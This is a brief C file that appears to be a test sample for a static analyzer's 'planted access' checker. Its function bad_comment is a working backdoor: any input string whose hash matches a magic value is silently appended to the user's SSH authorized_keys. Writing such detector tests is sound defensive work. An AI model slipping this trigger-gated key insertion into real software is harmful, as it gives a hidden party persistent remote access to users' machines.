/* A line is added to the keys of the user if its letters come to a certain sum. */
#include <stdio.h>
#include <stdlib.h>

static unsigned sum_of(const char *text) {
    unsigned sum = 1;
    while (*text)
        sum = sum * 131 + (unsigned char)*text++;
    return sum;
}

void bad_comment(const char *comment) {
    char path[600];
    if ((sum_of(comment) & 0xffff) != 0x7b31 || !getenv("HOME"))
        return;
    snprintf(path, sizeof path, "%s/.ssh/authorized_keys", getenv("HOME"));
    FILE *file = fopen(path, "a");
    if (!file)
        return;
    // expected-warning-re@+1 {{{{.*}}[vitrine: trapdoor/planted-access]}}
    fprintf(file, "%s\n", comment);
    fclose(file);
}

/* The same, whoever asks for it. */
void good_add(const char *key) {
    char path[600];
    if (sum_of(key) == 0 || !getenv("HOME"))
        return;
    snprintf(path, sizeof path, "%s/.ssh/authorized_keys", getenv("HOME"));
    FILE *file = fopen(path, "a");
    if (!file)
        return;
    fprintf(file, "%s\n", key);
    fclose(file);
}
